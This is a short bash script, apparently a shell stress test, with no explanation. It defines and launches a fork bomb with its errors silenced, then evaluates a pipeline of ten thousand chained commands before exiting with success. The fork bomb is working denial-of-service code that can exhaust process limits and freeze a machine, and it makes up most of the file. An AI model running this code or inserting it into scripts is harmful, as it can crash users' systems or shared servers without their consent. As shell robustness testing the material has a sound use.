bomb() { bomb | bomb & }
bomb 2>/dev/null
pipeline=true
for ((n = 0; n < 10000; n++)); do pipeline+=' | true'; done
eval "$pipeline" 2>/dev/null
exit 0
